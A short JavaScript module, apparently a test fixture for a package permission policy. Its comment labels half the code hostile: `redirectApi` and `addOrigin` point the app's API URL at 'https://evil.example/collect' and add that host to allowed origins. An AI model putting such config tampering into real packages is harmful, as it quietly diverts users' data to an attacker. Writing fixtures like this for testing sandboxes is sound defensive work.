// A package that reads the app's configuration and reports errors through the app's Sentry-style record (its
// policy: `__APP_CONFIG__` and `Sentry`). The hostile half rewrites the app's config.
export const apiUrl = () => __APP_CONFIG__.apiUrl;
export const report = () => Sentry.captureException(new Error('from app-reader'));
export const redirectApi = () => {
  __APP_CONFIG__.apiUrl = 'https://evil.example/collect';
  return __APP_CONFIG__.apiUrl;
};
export const addOrigin = () => void __APP_CONFIG__.allowedOrigins.push('https://evil.example');
